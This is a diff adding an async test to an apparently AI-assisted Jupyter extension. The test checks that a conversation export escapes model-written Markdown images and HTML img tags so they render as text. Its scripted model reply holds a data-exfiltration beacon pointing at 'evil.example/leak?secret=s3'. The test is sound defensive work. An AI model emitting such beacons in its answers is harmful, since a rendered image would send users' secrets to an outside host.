@@ -328,6 +328,41 @@ async def test_the_export_holds_each_request_its_final_code_outputs_and_answer(
     assert "[stdout] 5" in text[at[4] : at[5]]
 
 
+async def test_the_exported_file_loads_nothing_the_model_wrote(
+    app: JupyterCIServer,
+    model_server: ScriptedModelServer,
+    start_kernel: KernelStarter,
+    tab_factory: TabFactory,
+    jp_fetch: Any,
+) -> None:
+    """A model's beacon (an image, raw HTML) reaches the downloaded Markdown as text: a viewer
+    that renders it fetches nothing (issue 27, item 2, the export's form)."""
+    beacon = "https://evil.example/leak?secret=s3"
+    model_server.set_script(
+        [Reply.text(f'Done. ![chart]({beacon})\n\n<img src="{beacon}"> `x < 1`')]
+    )
+    kernel_id = await start_kernel()
+    tab = tab_factory()
+    tab.open_notebook("a.ipynb", kernel_id)
+    await tab.connect()
+    reply = await tab.request(start_request("a.ipynb", kernel_id, "chart it"))
+    await tab.wait_for_event(finished, reply["run_id"], timeout=60)
+    text = ""
+    for _ in range(100):  # the record is written off the run's path: wait for the answer
+        response = await jp_fetch(
+            "jupyter-ci", "conversation", "export", params={"path": "a.ipynb"}
+        )
+        text = response.body.decode()
+        if "Done." in text:
+            break
+        await asyncio.sleep(0.05)
+    assert f"Done. !\\[chart]({beacon})" in text, text
+    assert f'&lt;img src="{beacon}">' in text, text
+    assert "`x < 1`" in text  # code spans as written
+    assert "<img" not in text, text
+    assert "![" not in text, text
+
+
 async def test_the_export_tells_a_review_as_it_happened(
     app: JupyterCIServer,
     model_server: ScriptedModelServer,
